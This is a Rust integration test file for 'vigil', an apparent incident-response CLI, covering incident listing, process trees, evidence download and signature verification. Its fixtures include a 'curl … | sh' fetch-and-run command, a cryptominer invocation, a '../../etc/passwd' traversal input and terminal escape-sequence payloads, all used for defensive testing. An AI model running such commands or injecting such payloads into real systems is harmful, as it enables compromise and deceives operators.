//! The `vigil` CLI against a real collector.

mod common;

use std::path::Path;
use std::process::{Command, Output};

use common::{bundle, sha256_hex, Backend, Collector, Pki};
use vigil_proto::{Detection, DetectionBatch, Event, EventBatch, EvidenceChunk};

fn vigil(c: &Collector, pki: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_vigil"))
        .arg("--collector")
        .arg(c.url())
        .arg("--pki")
        .arg(pki)
        .args(args)
        .output()
        .expect("running vigil")
}

fn stdout(o: &Output) -> String {
    assert!(
        o.status.success(),
        "vigil failed: {:?}\nstdout: {}\nstderr: {}",
        o.status,
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8(o.stdout.clone()).unwrap()
}

/// A detection line; `process` is (pid, exe, argv as JSON).
fn detection(
    sec: u32,
    process: (u32, &str, &str),
    rule: &str,
    sev: &str,
    chain: &str,
    evidence: &str,
) -> Detection {
    let (pid, exe, argv) = process;
    Detection::from_agent_json(&format!(
        r#"{{"time":"2026-11-26T14:09:{sec:02}Z","rule":"{rule}","severity":"{sev}","mitre":["T1059"],"summary":"{rule} by {exe}","process":{{"pid":{pid},"ppid":0,"exe":"{exe}","comm":"x","argv":{argv},"uid":33,"workload":{{"kind":"systemd","cgroup":"/system.slice/app.service","systemd_unit":"app.service"}}}},"ancestry":{chain},"evidence":{evidence}}}"#
    ))
    .unwrap()
}

async fn analyst_cli_lists_shows_downloads_and_verifies(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let c = Collector::start(backend, &pki, data.path(), &[]);
    let bytes = bundle(3 << 20, 5);
    let id = sha256_hex(&bytes);

    let node = r#"{"pid":100,"exe":"/usr/bin/node","argv":["node","server.js"]}"#;
    let init = r#"{"pid":1,"exe":"/sbin/init","argv":["/sbin/init"]}"#;
    let sh = r#"{"pid":200,"exe":"/bin/sh","argv":["sh","-c","curl -s http://x/m | sh"]}"#;
    let dets = vec![
        detection(
            1,
            (200, "/bin/sh", r#"["sh","-c","curl -s http://x/m | sh"]"#),
            "server_shell",
            "high",
            &format!("[{node},{init}]"),
            "null",
        ),
        detection(
            2,
            (201, "/usr/bin/curl", r#"["curl","-s","http://x/m"]"#),
            "downloader",
            "medium",
            &format!("[{sh},{node},{init}]"),
            "null",
        ),
        detection(
            4,
            (
                203,
                "/tmp/.x/xmrig",
                r#"["xmrig","-o","stratum+tcp://pool:3333"]"#,
            ),
            "miner",
            "critical",
            &format!("[{sh},{node},{init}]"),
            &format!(r#""{id}""#),
        ),
    ];
    let events: Vec<Event> = [
        r#"{"time":"2026-11-26T14:09:03Z","type":"exec","pid":202,"ppid":200,"exe":"/usr/bin/chmod","argv":["chmod","+x","/tmp/.x/xmrig"],"process":{"pid":202,"ppid":200,"exe":"/usr/bin/chmod","workload":{"kind":"systemd","cgroup":"/system.slice/app.service","systemd_unit":"app.service"}}}"#,
        r#"{"time":"2026-11-26T14:09:05Z","type":"connect","pid":203,"process":{"pid":203,"ppid":200,"exe":"/tmp/.x/xmrig","argv":["xmrig"]},"daddr":"10.0.0.9","dport":3333}"#,
    ]
    .iter()
    .map(|j| Event::from_agent_json(j).unwrap())
    .collect();
    let mut ingest = c.ingest(&pki, "agent-1").await;
    ingest
        .push_events(tokio_stream::iter(vec![EventBatch {
            batch_id: "e".into(),
            events,
        }]))
        .await
        .unwrap();
    ingest
        .push_detections(tokio_stream::iter(vec![DetectionBatch {
            batch_id: "d".into(),
            detections: dets,
        }]))
        .await
        .unwrap();
    let chunks: Vec<EvidenceChunk> = bytes
        .chunks(1 << 20)
        .enumerate()
        .map(|(i, ch)| EvidenceChunk {
            bundle_id: id.clone(),
            total_size: bytes.len() as u64,
            offset: (i << 20) as u64,
            data: ch.to_vec(),
            label: "core+context".into(),
            signature: Vec::new(),
        })
        .collect();
    assert!(
        ingest
            .upload_evidence(tokio_stream::iter(chunks))
            .await
            .unwrap()
            .into_inner()
            .complete
    );

    // incidents list
    let out = stdout(&vigil(&c, pki.path(), &["incidents", "list"]));
    assert!(out.starts_with("ID "), "{out}");
    // Titled by its most severe detection.
    assert!(out.contains("miner by /tmp/.x/xmrig"), "{out}");
    assert!(out.contains("critical"), "{out}");
    let json: serde_json::Value = serde_json::from_str(&stdout(&vigil(
        &c,
        pki.path(),
        &["incidents", "list", "--json"],
    )))
    .unwrap();
    let list = json.as_array().unwrap();
    assert_eq!(list.len(), 1);
    assert_eq!(list[0]["detection_count"], 3);
    assert_eq!(list[0]["agent"], "agent-1");
    let incident = list[0]["id"].as_i64().unwrap().to_string();
    let none = stdout(&vigil(
        &c,
        pki.path(),
        &["incidents", "list", "--search", "nothing-like-this"],
    ));
    assert_eq!(none.trim(), "no incidents");

    // incidents show: tree, timeline, evidence
    let out = stdout(&vigil(&c, pki.path(), &["incidents", "show", &incident]));
    println!("{out}");
    let tree = "\
node server.js (/usr/bin/node)  [pid 100]
`-- sh -c \"curl -s http://x/m | sh\" (/bin/sh)  [pid 200]  <- server_shell
    |-- curl -s http://x/m (/usr/bin/curl)  [pid 201]  <- downloader
    |-- chmod +x /tmp/.x/xmrig (/usr/bin/chmod)  [pid 202]
    `-- xmrig -o stratum+tcp://pool:3333 (/tmp/.x/xmrig)  [pid 203]  <- miner
";
    assert!(out.contains(tree), "{out}");
    assert!(out.contains("DETECTION CRITICAL miner"), "{out}");
    assert!(out.contains("connect"), "{out}");
    assert!(
        out.contains(&format!("{id}  3.0 MiB  from agent-1")),
        "{out}"
    );
    let json: serde_json::Value = serde_json::from_str(&stdout(&vigil(
        &c,
        pki.path(),
        &["incidents", "show", &incident, "--json"],
    )))
    .unwrap();
    assert_eq!(json["tree"][0]["pid"], 100);
    assert_eq!(json["detections"].as_array().unwrap().len(), 3);
    assert_eq!(json["detections"][0]["detection"]["rule"], "server_shell");
    assert_eq!(json["evidence"][0]["bundle_id"], id.as_str());

    // detections list
    let out = stdout(&vigil(
        &c,
        pki.path(),
        &["detections", "list", "--rule", "miner"],
    ));
    assert_eq!(out.lines().count(), 2, "{out}");
    let out = stdout(&vigil(
        &c,
        pki.path(),
        &["detections", "list", "--min-severity", "high", "--json"],
    ));
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&out)
            .unwrap()
            .as_array()
            .unwrap()
            .len(),
        2
    );

    // evidence get + verify
    let dl = tempfile::tempdir().unwrap();
    let file = dl.path().join(format!("{id}.zst"));
    let out = stdout(&vigil(
        &c,
        pki.path(),
        &["evidence", "get", &id, "-o", file.to_str().unwrap(), "-q"],
    ));
    assert!(out.contains("verified"), "{out}");
    assert_eq!(std::fs::read(&file).unwrap(), bytes);
    let out = stdout(&vigil(
        &c,
        pki.path(),
        &["evidence", "verify", file.to_str().unwrap()],
    ));
    assert!(out.contains("OK   sha256"), "{out}");
    assert!(out.contains("OK   manifest: 1 artifacts match"), "{out}");
    // An interrupted download resumes from its .part file.
    let resumed = dl.path().join("resumed.zst");
    std::fs::write(dl.path().join("resumed.zst.part"), &bytes[..(1 << 20) + 7]).unwrap();
    stdout(&vigil(
        &c,
        pki.path(),
        &[
            "evidence",
            "get",
            &id,
            "-o",
            resumed.to_str().unwrap(),
            "-q",
        ],
    ));
    assert_eq!(std::fs::read(&resumed).unwrap(), bytes);
    // A corrupt .part is caught by the hash and discarded.
    let corrupt = dl.path().join("corrupt.zst");
    std::fs::write(dl.path().join("corrupt.zst.part"), b"garbage").unwrap();
    let o = vigil(
        &c,
        pki.path(),
        &[
            "evidence",
            "get",
            &id,
            "-o",
            corrupt.to_str().unwrap(),
            "-q",
        ],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("discarded"),
        "{o:?}"
    );
    assert!(!corrupt.exists());
    assert!(!dl.path().join("corrupt.zst.part").exists());

    // A tampered copy fails verification with exit status 1.
    let tampered = dl.path().join("tampered.zst");
    let mut t = bytes.clone();
    t[1000] ^= 1;
    std::fs::write(&tampered, &t).unwrap();
    let o = vigil(
        &c,
        pki.path(),
        &[
            "evidence",
            "verify",
            tampered.to_str().unwrap(),
            "--id",
            &id,
        ],
    );
    assert_eq!(o.status.code(), Some(1));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("FAIL sha256"), "{out}");
    assert!(out.contains("FAIL manifest"), "{out}");
    // Unknown bundle, malformed id: clear errors, exit 2.
    let o = vigil(
        &c,
        pki.path(),
        &[
            "evidence",
            "get",
            &"0".repeat(64),
            "-o",
            dl.path().join("x").to_str().unwrap(),
        ],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("NotFound"),
        "{o:?}"
    );
    let o = vigil(
        &c,
        pki.path(),
        &[
            "evidence",
            "get",
            "../../etc/passwd",
            "-o",
            dl.path().join("y").to_str().unwrap(),
        ],
    );
    assert_eq!(o.status.code(), Some(2));

    // An agent certificate cannot read.
    let agent_cert = pki.path().join("agents/agent-1.pem");
    let agent_key = pki.path().join("agents/agent-1.key");
    let o = vigil(
        &c,
        pki.path(),
        &[
            "--cert",
            agent_cert.to_str().unwrap(),
            "--key",
            agent_key.to_str().unwrap(),
            "incidents",
            "list",
        ],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("PermissionDenied"),
        "{o:?}"
    );
}

/// A hostile agent's strings carry terminal escape sequences, C1 controls
/// and bidirectional overrides (rule, summary, exe, argv, ancestry): no
/// `vigil` output prints one, tables nor JSON (which stays valid).
async fn no_agent_string_reaches_the_terminal_raw(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let c = Collector::start(backend, &pki, data.path(), &[]);
    let evil = r"x\u001b]0;pwned\u0007\u001b[2J\r\u009b31m\u007f\u202egpj.exe";
    let d = Detection::from_agent_json(&format!(
        r#"{{"time":"2026-11-26T14:09:01Z","rule":"{evil}","severity":"high","mitre":["T1059\\u001b[2J\\u202e"],"summary":"{evil}","process":{{"pid":9,"ppid":8,"exe":"/bin/{evil}","comm":"{evil}","argv":["{evil}","-c"],"uid":33}},"ancestry":[{{"pid":8,"exe":"/usr/bin/{evil}","argv":["{evil}"]}}]}}"#
    ))
    .unwrap();
    assert!(d.rule.contains('\u{1b}'));
    c.ingest(&pki, "agent-1")
        .await
        .push_detections(tokio_stream::iter(vec![DetectionBatch {
            batch_id: "evil".into(),
            detections: vec![d],
        }]))
        .await
        .unwrap();
    let raw = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    for args in [
        &["detections", "list"][..],
        &["detections", "list", "--json"],
        &["incidents", "list"],
        &["incidents", "list", "--json"],
        &["incidents", "show", "1"],
        &["incidents", "show", "1", "--json"],
    ] {
        let out = stdout(&vigil(&c, pki.path(), args));
        assert!(out.contains("pwned"), "{args:?}: {out}");
        assert!(!out.chars().any(raw), "{args:?} printed a control: {out:?}");
        if args.contains(&"--json") {
            serde_json::from_str::<serde_json::Value>(&out).unwrap();
            assert!(out.contains("\\u009b") && out.contains("\\u202e"), "{out}");
        }
    }
}

async fn upload_signed(
    c: &Collector,
    pki: &Pki,
    agent: &str,
    bytes: &[u8],
    signed: bool,
) -> String {
    let id = sha256_hex(bytes);
    let chunk = EvidenceChunk {
        bundle_id: id.clone(),
        total_size: bytes.len() as u64,
        offset: 0,
        data: bytes.to_vec(),
        label: String::new(),
        signature: if signed {
            common::sign(pki.path(), agent, &id)
        } else {
            Vec::new()
        },
    };
    let r = c
        .ingest(pki, agent)
        .await
        .upload_evidence(tokio_stream::iter(vec![chunk]))
        .await
        .unwrap()
        .into_inner();
    assert!(r.complete);
    id
}

fn out_text(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// `vigil evidence get` keeps the signature and the receipt next to the
/// bundle; `vigil evidence verify` checks them offline and the collector's
/// record online: an altered bundle renamed to its new hash, a fork and an
/// unsigned bundle are each reported; offline it says what it did not
/// check.
async fn verify_checks_origin_offline_and_at_the_collector(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let c = Collector::start(backend, &pki, data.path(), &[]);
    let chain = common::AgentChain::new("agent-1");
    let id1 = upload_signed(&c, &pki, "agent-1", &chain.next(1), true).await;
    let fork = chain.fork();
    let id2 = upload_signed(&c, &pki, "agent-1", &chain.next(2), true).await;
    let id2x = upload_signed(&c, &pki, "agent-1", &fork.next(3), true).await;
    let old = upload_signed(
        &c,
        &pki,
        "agent-2",
        &common::AgentChain::new("agent-2").next(4),
        false,
    )
    .await;
    let dir = tempfile::tempdir().unwrap();
    let get = |id: &str| {
        let out = dir.path().join(format!("{id}.zst"));
        let o = vigil(
            &c,
            pki.path(),
            &["evidence", "get", "-q", id, "-o", out.to_str().unwrap()],
        );
        stdout(&o);
        out
    };
    let verify = |extra: &[&str], file: &Path| {
        let mut args = vec!["evidence", "verify"];
        args.extend_from_slice(extra);
        args.push(file.to_str().unwrap());
        vigil(&c, pki.path(), &args)
    };

    let f1 = get(&id1);
    assert!(common::files_under(dir.path())
        .iter()
        .any(|f| f.ends_with(".zst.sig")));
    let o = verify(&[], &f1);
    let text = stdout(&o);
    assert!(text.contains("signed by agent agent-1"), "{text}");
    assert!(
        text.contains(
            "receipt: stored by the collector from agent agent-1, seq 1, chain first, signed"
        ),
        "{text}"
    );
    assert!(
        text.contains("collector: holds it from agent agent-1 (signed), seq 1"),
        "{text}"
    );
    assert!(!text.contains("self-consistency only"), "{text}");
    let o = verify(&["--offline"], &f1);
    let text = stdout(&o);
    assert!(text.contains("checked self-consistency only"), "{text}");

    // Altered and renamed to its new hash, the old signature kept with it.
    let altered = common::AgentChain::new("agent-1").next(99);
    let alt = dir.path().join(format!("{}.zst", sha256_hex(&altered)));
    std::fs::write(&alt, &altered).unwrap();
    std::fs::copy(
        format!("{}.sig", f1.display()),
        format!("{}.sig", alt.display()),
    )
    .unwrap();
    let o = verify(&[], &alt);
    assert_eq!(o.status.code(), Some(1), "{}", out_text(&o));
    let text = out_text(&o);
    assert!(
        text.contains("changed (or renamed) after it was signed"),
        "{text}"
    );
    assert!(text.contains("holds no bundle with this content"), "{text}");
    // Without its signature: unsigned, and the collector does not know it.
    std::fs::remove_file(format!("{}.sig", alt.display())).unwrap();
    let o = verify(&[], &alt);
    assert_eq!(o.status.code(), Some(1));
    assert!(out_text(&o).contains("WARN unsigned"), "{}", out_text(&o));

    // The fork: both ends fail at the collector.
    for id in [&id2, &id2x] {
        let o = verify(&[], &get(id));
        assert_eq!(o.status.code(), Some(1), "{}", out_text(&o));
        assert!(
            out_text(&o).contains("other bundles naming the same predecessor"),
            "{}",
            out_text(&o)
        );
    }

    // An older agent's unsigned bundle: kept, said to be unsigned.
    let f = get(&old);
    let o = verify(&[], &f);
    let text = stdout(&o);
    assert!(text.contains("WARN unsigned"), "{text}");
    assert!(text.contains("(unsigned)"), "{text}");
}

on_both_stores!(
    verify_checks_origin_offline_and_at_the_collector,
    analyst_cli_lists_shows_downloads_and_verifies,
    no_agent_string_reaches_the_terminal_raw,
);

/// `vigil-collector ui-token` prints the token a serving collector made
/// (for images with no shell), and says clearly when there is none yet.
#[test]
fn ui_token_prints_the_token_or_says_why_not() {
    let dir = tempfile::tempdir().unwrap();
    let run = || {
        Command::new(env!("CARGO_BIN_EXE_vigil-collector"))
            .args(["ui-token", "--data-dir"])
            .arg(dir.path())
            .output()
            .unwrap()
    };
    let missing = run();
    assert!(!missing.status.success());
    let err = String::from_utf8_lossy(&missing.stderr);
    assert!(
        err.contains("ui-token") && err.contains("--ui-addr"),
        "{err}"
    );
    std::fs::write(dir.path().join("ui-token"), "abc123\n").unwrap();
    let ok = run();
    assert!(ok.status.success(), "{ok:?}");
    assert_eq!(String::from_utf8_lossy(&ok.stdout), "abc123\n");
}

/// A bundle whose manifest carries terminal escape sequences (an agent's
/// strings are the attacker's): `vigil evidence verify` prints none of
/// them, and still says the bundle verifies.
#[test]
fn verify_prints_no_escape_sequences_from_a_manifest() {
    let evil = "node\u{1b}]0;pwned\u{7}\u{1b}[2J\r\u{9b}31m";
    let bytes = common::sealed_bundle_as(evil, 4096, 9, 77, "2026-11-26T14:08:28Z");
    let id = sha256_hex(&bytes);
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join(format!("{id}.tar.zst"));
    std::fs::write(&file, &bytes).unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .args(["evidence", "verify"])
        .arg(&file)
        .output()
        .unwrap();
    let out = String::from_utf8(o.stdout).unwrap();
    assert!(o.status.success(), "{out}");
    assert!(out.contains("OK   manifest"), "{out}");
    assert!(out.contains("agent node?]0;pwned??[2J??31m"), "{out}");
    assert!(!out.chars().any(|c| c.is_control() && c != '\n'), "{out:?}");
}
